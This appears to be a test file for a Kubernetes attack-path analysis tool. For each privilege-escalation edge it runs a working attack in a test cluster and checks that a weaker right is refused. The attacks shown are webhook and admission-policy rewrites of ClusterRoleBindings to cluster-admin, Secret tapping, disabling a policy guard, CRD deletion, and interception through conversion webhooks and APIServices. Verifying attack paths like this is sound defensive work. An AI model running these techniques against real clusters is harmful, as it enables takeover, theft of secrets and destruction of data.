/** Changing or switching off what the API server asks on every write. */
import { setTimeout as pause } from 'node:timers/promises';
import type { PlainObject } from '../../../../src/graph/family.ts';
import { allowEverywhereTo, allowTo, configMap } from '../../../../src/graph/example-objects.ts';
import type { Attack } from '../attack.ts';
import { boxPod } from '../objects.ts';
import { type Place, Refused, type TriedFamily, way } from '../way.ts';
import { serveReviews } from '../webhook.ts';
import { waitFor } from '../../wait.ts';

const ADMISSION = 'admissionregistration.k8s.io';
const API = `/apis/${ADMISSION}/v1`;

export const family: TriedFamily = {
  ways: [
    way({
      edge: 'MUTATING_WEBHOOK',
      to: () => 'ClusterAdmin',
      world: ({ x }) => allowEverywhereTo(x, 'create mutatingwebhookconfigurations'),
      take: (attack) =>
        changeBinding(attack, (url) =>
          installWebhook(attack, { kind: 'MutatingWebhookConfiguration', resource: 'clusterrolebindings', url }),
        ),
      nearest: {
        because: 'deleting one changes nothing that is written',
        world: ({ x }) => allowEverywhereTo(x, 'delete mutatingwebhookconfigurations'),
        refusal: /403/,
      },
    }),
    way({
      edge: 'VALIDATING_WEBHOOK_TAP',
      unsure: true,
      to: () => 'AllSecrets',
      world: ({ x }) => allowEverywhereTo(x, 'create validatingwebhookconfigurations'),
      take: tap,
      nearest: {
        because: 'they lie in no namespace, so a RoleBinding grants nothing',
        world: ({ ns, x }) => allowTo(x, ns, 'create validatingwebhookconfigurations'),
        refusal: /403/,
      },
    }),
    way({
      edge: 'MUTATING_POLICY',
      releases: ['1.36.3'],
      to: () => 'ClusterAdmin',
      world: ({ x }) => allowEverywhereTo(x, 'create mutatingadmissionpolicies', 'create mutatingadmissionpolicybindings'),
      take: (attack) => changeBinding(attack, () => installPolicy(attack)),
      nearest: {
        because: 'a policy without a binding does nothing',
        world: ({ x }) => allowEverywhereTo(x, 'create mutatingadmissionpolicies'),
        refusal: /403/,
      },
    }),
    way({
      edge: 'POLICY_DISABLE',
      to: ({ ns }) => `PolicyBypass/ValidatingAdmissionPolicy/guard-${ns}`,
      world: (place) => [...guard(place), ...may(place, `delete validatingadmissionpolicybindings:guard-${place.ns}`)],
      take: (attack) => breakGuard(attack, () => attack.ask('DELETE', `${API}/validatingadmissionpolicybindings/guard-${attack.ns}`)),
      nearest: {
        because: 'reading it switches nothing off',
        world: (place) => [...guard(place), ...may(place, `get validatingadmissionpolicybindings:guard-${place.ns}`)],
        refusal: /403/,
      },
    }),
    way({
      edge: 'POLICY_PARAM_TAMPER',
      to: ({ ns }) => `PolicyBypass/ValidatingAdmissionPolicy/guard-${ns}`,
      world: (place) => [...guard(place), ...allowTo(place.x, place.ns, 'patch configmaps:limits', 'create pods')],
      take: (attack) =>
        breakGuard(attack, () => attack.patch(`/api/v1/namespaces/${attack.ns}/configmaps/limits`, { data: { privileged: 'yes' } })),
      nearest: {
        because: 'the policy reads another one',
        world: (place) => [...guard(place), ...allowTo(place.x, place.ns, 'patch configmaps:other', 'create pods')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'CRD_TAKEOVER',
      to: () => 'Operator data',
      world: ({ ns, x }) => [definition(ns), ...allowEverywhereTo(x, `delete customresourcedefinitions:${plural(ns)}.example.org`)],
      take: dropDefinition,
      nearest: {
        because: 'listing changes nothing',
        world: ({ ns, x }) => [definition(ns), ...allowEverywhereTo(x, 'list customresourcedefinitions')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'CRD_CONVERSION_WEBHOOK',
      to: () => 'TrafficIntercept/custom resources',
      world: ({ ns, x }) => [definition(ns), ...allowEverywhereTo(x, 'patch customresourcedefinitions')],
      take: convert,
      nearest: {
        because: 'the status names no webhook',
        world: ({ ns, x }) => [definition(ns), ...allowEverywhereTo(x, 'patch customresourcedefinitions/status')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'APISERVICE_HIJACK',
      to: () => 'TrafficIntercept/aggregated APIs',
      world: ({ ns, x }) => [localhost(ns), ...allowEverywhereTo(x, 'create apiservices')],
      take: hijack,
      nearest: {
        because: 'reading answers for nothing',
        world: ({ ns, x }) => [localhost(ns), ...allowEverywhereTo(x, 'get apiservices')],
        refusal: /403/,
      },
    }),
  ],
};

function may({ ns, x }: Place, right: string): PlainObject[] {
  return [...allowEverywhereTo(x, right), ...allowTo(x, ns, 'create pods')];
}

/** Somebody with every right binds somebody else to a role of no worth; what is stored says whom it binds to what. */
async function changeBinding(attack: Attack, install: (url: string) => Promise<unknown>): Promise<void> {
  const subject = { kind: 'ServiceAccount', namespace: attack.ns, name: 'x' };
  const operations = [
    { op: 'replace', path: '/subjects', value: [subject] },
    { op: 'replace', path: '/roleRef/name', value: 'cluster-admin' },
  ];
  const server = await serveReviews(attack.cluster.pki, ({ request }) =>
    String(request.name).startsWith(attack.ns) ? { patch: operations } : {},
  );
  try {
    await install(server.url);
    let count = 0;
    await attack.eventually(async () => {
      count += 1;
      await attack.asAdministrator('POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', {
        metadata: { name: `${attack.ns}-${count}` },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
        subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'nobody' }],
      });
      await attack.ask('GET', '/api/v1/secrets?limit=1');
    });
    await attack.controlsCluster();
  } finally {
    await server.close();
  }
}

interface Webhook {
  kind: 'MutatingWebhookConfiguration' | 'ValidatingWebhookConfiguration';
  resource: string;
  url: string;
}

async function installWebhook(attack: Attack, { kind, resource, url }: Webhook): Promise<void> {
  const caBundle = Buffer.from(attack.cluster.pki.authority.certificate).toString('base64');
  await attack.post(`${API}/${kind.toLowerCase()}s`, {
    apiVersion: `${ADMISSION}/v1`,
    kind,
    metadata: { name: attack.ns },
    webhooks: [
      {
        name: 'tap.example.org',
        clientConfig: { url, caBundle },
        rules: [{ operations: ['CREATE'], apiGroups: ['*'], apiVersions: ['*'], resources: [resource] }],
        failurePolicy: 'Ignore',
        sideEffects: 'None',
        admissionReviewVersions: ['v1'],
      },
    ],
  });
}

async function tap(attack: Attack): Promise<void> {
  let seen = '';
  const server = await serveReviews(attack.cluster.pki, ({ text }) => {
    seen += text;
    return {};
  });
  try {
    await installWebhook(attack, { kind: 'ValidatingWebhookConfiguration', resource: 'secrets', url: server.url });
    await attack.eventually(async () => {
      const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { generateName: 'new-' }, stringData: { word: attack.place.word } };
      await attack.asAdministrator('POST', `/api/v1/namespaces/${attack.ns}/secrets`, secret);
      attack.finds(seen);
    });
  } finally {
    await server.close();
  }
}

/** Served since 1.34 as v1beta1 where somebody turns it on, and as v1 by itself from 1.36 on. */
async function installPolicy(attack: Attack): Promise<void> {
  const subject = `{"kind": "ServiceAccount", "namespace": "${attack.ns}", "name": "x"}`;
  const expression = `[
    JSONPatch{op: "add", path: "/subjects/-", value: ${subject}},
    JSONPatch{op: "replace", path: "/roleRef/name", value: "cluster-admin"}]`;
  const rule = { operations: ['CREATE'], apiGroups: ['rbac.authorization.k8s.io'], apiVersions: ['*'], resources: ['clusterrolebindings'] };
  const make = (kind: string, spec: PlainObject): PlainObject => ({
    apiVersion: `${ADMISSION}/v1`,
    kind,
    metadata: { name: attack.ns },
    spec,
  });
  await attack.post(
    `${API}/mutatingadmissionpolicies`,
    make('MutatingAdmissionPolicy', {
      matchConstraints: { resourceRules: [rule] },
      matchConditions: [{ name: 'own', expression: `object.metadata.name.startsWith("${attack.ns}")` }],
      failurePolicy: 'Fail',
      reinvocationPolicy: 'Never',
      mutations: [{ patchType: 'JSONPatch', jsonPatch: { expression } }],
    }),
  );
  await attack.post(`${API}/mutatingadmissionpolicybindings`, make('MutatingAdmissionPolicyBinding', { policyName: attack.ns }));
}

/** A policy that refuses privileged pods in the namespace unless a ConfigMap says otherwise. */
function guard({ ns }: Place): PlainObject[] {
  const name = `guard-${ns}`;
  const make = (kind: string, spec: PlainObject): PlainObject => ({ apiVersion: `${ADMISSION}/v1`, kind, metadata: { name }, spec });
  const own = { namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': ns } } };
  const rule = { operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] };
  return [
    { apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns } },
    configMap(`${ns}/limits`, { privileged: 'no' }),
    make('ValidatingAdmissionPolicy', {
      failurePolicy: 'Fail',
      paramKind: { apiVersion: 'v1', kind: 'ConfigMap' },
      matchConstraints: { ...own, resourceRules: [rule] },
      validations: [
        {
          expression:
            'params.data["privileged"] == "yes" || object.spec.containers.all(c, !has(c.securityContext) || !has(c.securityContext.privileged) || !c.securityContext.privileged)',
        },
      ],
    }),
    make('ValidatingAdmissionPolicyBinding', {
      policyName: name,
      validationActions: ['Deny'],
      paramRef: { name: 'limits', namespace: ns, parameterNotFoundAction: 'Deny' },
      matchResources: own,
    }),
  ];
}

/** The guard must be seen to stand before it is broken. */
async function breakGuard(attack: Attack, by: () => Promise<unknown>): Promise<void> {
  const path = `/api/v1/namespaces/${attack.ns}/pods?dryRun=All`;
  const pod = boxPod(`${attack.ns}/p`, {}, { securityContext: { privileged: true } });
  await waitFor('policy to be in force', async () =>
    attack.post(path, pod).then(
      () => false,
      (error: unknown) => error instanceof Refused && error.message.includes('ValidatingAdmissionPolicy'),
    ),
  );
  await by();
  await attack.eventually(() => attack.post(path, pod));
}

function plural(ns: string): string {
  return `things${ns.replaceAll(/[^a-z0-9]/g, '')}`;
}

function definition(ns: string): PlainObject {
  const schema = { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } };
  return {
    apiVersion: 'apiextensions.k8s.io/v1',
    kind: 'CustomResourceDefinition',
    metadata: { name: `${plural(ns)}.example.org` },
    spec: {
      group: 'example.org',
      scope: 'Namespaced',
      names: { plural: plural(ns), singular: plural(ns), kind: `K${plural(ns)}` },
      versions: [
        { name: 'v1', served: true, storage: true, schema },
        { name: 'v2', served: true, storage: false, schema },
      ],
    },
  };
}

async function addThing(attack: Attack): Promise<void> {
  const path = `/apis/example.org/v1/namespaces/${attack.ns}/${plural(attack.ns)}`;
  const body = { apiVersion: 'example.org/v1', kind: `K${plural(attack.ns)}`, metadata: { name: 'thing' }, word: attack.place.word };
  await waitFor('resource to be served', async () => (await attack.cluster.request('POST', path, { body })).status === 201);
}

async function dropDefinition(attack: Attack): Promise<void> {
  await addThing(attack);
  await attack.ask('DELETE', `/apis/apiextensions.k8s.io/v1/customresourcedefinitions/${plural(attack.ns)}.example.org`);
  await attack.eventually(async () => {
    const { status } = await attack.cluster.request('GET', `/apis/example.org/v1/namespaces/${attack.ns}/${plural(attack.ns)}/thing`);
    if (status !== 404) throw new Refused('the data is still there');
  });
}

async function convert(attack: Attack): Promise<void> {
  await addThing(attack);
  let seen = '';
  const server = await serveReviews(attack.cluster.pki, ({ text }) => {
    seen += text;
    return {};
  });
  const caBundle = Buffer.from(attack.cluster.pki.authority.certificate).toString('base64');
  const webhook = { clientConfig: { url: server.url, caBundle }, conversionReviewVersions: ['v1'] };
  try {
    await attack.patch(`/apis/apiextensions.k8s.io/v1/customresourcedefinitions/${plural(attack.ns)}.example.org`, {
      spec: { conversion: { strategy: 'Webhook', webhook } },
    });
    await attack.eventually(async () => {
      // What is answered so badly may be waited for long; the object has been sent by then.
      const path = `/apis/example.org/v2/namespaces/${attack.ns}/${plural(attack.ns)}/thing`;
      await Promise.race([attack.cluster.request('GET', path).catch(() => undefined), pause(1000)]);
      attack.finds(seen);
    });
  } finally {
    await server.close();
  }
}

/** Without pods, the API server reaches the test itself by a Service that says localhost. */
function localhost(ns: string): PlainObject {
  return {
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { namespace: ns, name: 'localhost' },
    spec: { type: 'ExternalName', externalName: 'localhost', ports: [{ port: 443 }] },
  };
}

/** Whoever asks the part of the API sends what he writes to it. */
async function hijack(attack: Attack): Promise<void> {
  let seen = '';
  const server = await serveReviews(attack.cluster.pki, ({ text }) => {
    seen += text;
    return {};
  });
  const group = `${attack.ns}.example.org`;
  const service = { namespace: attack.ns, name: 'localhost', port: Number(new URL(server.url).port) };
  try {
    await attack.post('/apis/apiregistration.k8s.io/v1/apiservices', {
      apiVersion: 'apiregistration.k8s.io/v1',
      kind: 'APIService',
      metadata: { name: `v1.${group}` },
      spec: { group, version: 'v1', service, insecureSkipTLSVerify: true, groupPriorityMinimum: 100, versionPriority: 10 },
    });
    await attack.eventually(async () => {
      await attack.cluster.request('POST', `/apis/${group}/v1/namespaces/${attack.ns}/things`, { body: { word: attack.place.word } });
      attack.finds(seen);
    });
  } finally {
    await server.close();
  }
}
